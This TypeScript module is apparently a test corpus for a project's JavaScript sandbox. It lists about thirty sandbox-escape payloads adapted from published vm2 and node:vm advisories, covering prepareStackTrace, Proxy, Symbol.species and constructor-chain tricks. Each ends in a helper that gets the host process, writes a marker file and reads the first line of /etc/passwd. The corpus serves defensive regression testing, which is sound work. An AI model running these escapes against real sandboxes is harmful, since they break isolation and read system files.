// Escape corpus for the JavaScript sandbox (tools/builtin/sandbox.ts): the published vm2 /
// node:vm advisories' proofs of concept, adapted to what exists in our guest (no Buffer, no
// host modules), plus QuickJS's own known issues. Every payload ends in pwn(F): given something
// that might be a host Function constructor, it writes MARKER and returns the first line of
// /etc/passwd, so an escape is visible both on disk and in the output ("ESCAPED:").
// Shared with scratch runs against the old node:vm runner, hence a plain data module.

export interface EscapeCase {
  name: string;
  code: string;
}

export const pwnPrelude = (marker: string): string => `
function pwn(F) {
  const p = F("return process")();
  const fs = p.getBuiltinModule ? p.getBuiltinModule("fs") : p.mainModule.require("fs");
  fs.writeFileSync(${JSON.stringify(marker)}, "pwned");
  return "ESCAPED:" + fs.readFileSync("/etc/passwd", "utf8").split("\\n")[0];
}
`;

export const ESCAPES: EscapeCase[] = [
  {
    name: "issue #14: rejected import() hands out a host error",
    code: "import('x').catch((e) => pwn(e.constructor.constructor))",
  },
  {
    name: "import() of a builtin",
    code: "import('node:fs').then((m) => m.readFileSync('/etc/passwd', 'utf8'))",
  },
  {
    name: "import() of process",
    code: "import('process').then((m) => pwn(m.default.constructor.constructor))",
  },
  { name: "this.constructor.constructor", code: "pwn(this.constructor.constructor)" },
  { name: "({}).constructor.constructor", code: "pwn(({}).constructor.constructor)" },
  { name: "Function('return this')().process", code: "Function('return this')().process.exit(1)" },
  { name: "eval reaches process", code: "eval('process').exit(1)" },
  {
    name: "__proto__ chain of a thrown error",
    code: "try { null.x } catch (e) { pwn(e.__proto__.__proto__.constructor.constructor) }",
  },
  {
    name: "__lookupGetter__('__proto__') on a provided function (vm2 #184)",
    code: "pwn(Object.getOwnPropertyDescriptor(({}).__lookupGetter__('__proto__').call(console.log), 'constructor').value)",
  },
  {
    name: "CVE-2022-36067 (Sandbreak): Error.prepareStackTrace, CallSite.getThis",
    code: `Error.prepareStackTrace = (e, frames) => pwn(frames[0].getThis().constructor.constructor);
      new Error().stack`,
  },
  {
    name: "CVE-2022-36067 variant: replaced Error global, frames.constructor",
    code: `globalThis.OldError = globalThis.Error; try { Error = {}; } catch (e) {}
      Error.prepareStackTrace = (e, frames) => pwn(frames.constructor.constructor);
      (async function () {}).constructor("return 1")(); new OldError().stack`,
  },
  {
    name: "CVE-2023-29017: prepareStackTrace with an async SyntaxError",
    code: `Error.prepareStackTrace = (e, frames) => { frames.constructor.constructor("return process")().exit(9); };
      async function aa() { eval("1=1"); } aa()`,
  },
  {
    name: "CVE-2023-30547: Proxy getPrototypeOf throwing at stack exhaustion",
    code: `const err = {};
      const handler = { getPrototypeOf(target) { (function stack() { new Error().stack; stack(); })(); } };
      const proxiedErr = new Proxy(err, handler);
      try { throw proxiedErr; } catch ({ constructor: c }) { pwn(c.constructor); }`,
  },
  {
    name: "CVE-2023-32314: Symbol replaced with a throwing toStringTag getter",
    code: `Symbol = { get toStringTag() { throw (f) => f.constructor("return process")(); } };
      try { Object.prototype.toString.call(new Map()); String(new Map()); } catch (f) { Symbol = {}; f(() => {}).exit(1); }`,
  },
  {
    name: "CVE-2023-37466: Promise @@species with a stack-exhausted async function",
    code: `async function fn() { (function stack() { new Error().stack; stack(); })(); }
      const p = fn();
      p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) {
        executor((x) => x, (err) => pwn(err.constructor.constructor)); } } };
      p.then();`,
  },
  {
    name: "CVE-2023-37903: nodejs.util.inspect.custom called with the host inspect",
    code: `const obj = { [Symbol.for("nodejs.util.inspect.custom")]: (depth, opt, inspect) => pwn(inspect.constructor),
        valueOf: undefined, constructor: undefined };
      console.log(obj);
      typeof WebAssembly === "object" ? WebAssembly.compileStreaming(obj).catch(() => {}) : obj`,
  },
  {
    name: "Error generation primitive: error.name = Symbol(); error.stack",
    code: `const e = new Error("x"); e.name = Symbol(); try { e.stack; String(e); } catch (h) { pwn(h.constructor.constructor); }`,
  },
  {
    name: "err.name.toString as a Proxy apply trap (vm2 handleException)",
    code: `const err = new Error();
      err.name = { toString: new Proxy(() => "", { apply(t, thiz, args) { throw pwn(args.constructor.constructor); } }) };
      try { err.stack; String(err); } catch (x) { x }`,
  },
  {
    name: "Proxy traps on the completion value (run by the host's formatter)",
    code: `new Proxy({}, { ownKeys() { return [pwn(arguments.callee.caller.constructor)]; },
        get(t, k, r) { return pwn(r.constructor.constructor); } })`,
  },
  {
    name: "toJSON on the completion value",
    code: "({ toJSON() { return pwn(arguments.callee.caller.constructor); } })",
  },
  {
    name: "console.log argument getters / toString",
    code: "console.log({ get a() { return pwn(arguments.callee.caller.constructor); } }, { toString() { return pwn(this.constructor.constructor); } })",
  },
  {
    name: "arguments.callee.caller at top level",
    code: "(function () { return pwn(arguments.callee.caller.constructor); })()",
  },
  {
    name: "async function constructor",
    code: "(async function () {}).constructor('return process')().then((p) => p.exit(1))",
  },
  {
    name: "generator function constructor",
    code: "(function* () {}).constructor('return process')().next()",
  },
  {
    name: "async generator function constructor",
    code: "(async function* () {}).constructor('return process')().next()",
  },
  {
    name: "Reflect.construct with a foreign new.target",
    code: "pwn(Reflect.construct(Function, ['return this'], Function)().constructor)",
  },
  {
    name: "Promise.prototype.then replaced before the host awaits the value",
    code: `Promise.prototype.then = function (ok, bad) { return pwn(ok.constructor); }; Promise.resolve(1)`,
  },
  {
    name: "thenable completion value inspects its resolvers",
    code: "({ then(ok, bad) { ok(pwn(ok.constructor)); } })",
  },
  {
    name: "Symbol.species on an array returned to the host",
    code: "const a = [1, 2]; a.constructor = { [Symbol.species]: function () { return pwn(arguments.callee.caller.constructor); } }; a",
  },
  {
    name: "WeakRef / FinalizationRegistry callbacks after the run",
    code: `const r = new FinalizationRegistry((h) => pwn(h.constructor.constructor));
      for (let i = 0; i < 1000; i++) r.register({ big: new Array(100) }, "held" + i);
      globalThis.w = new WeakRef({}); "registered"`,
  },
];
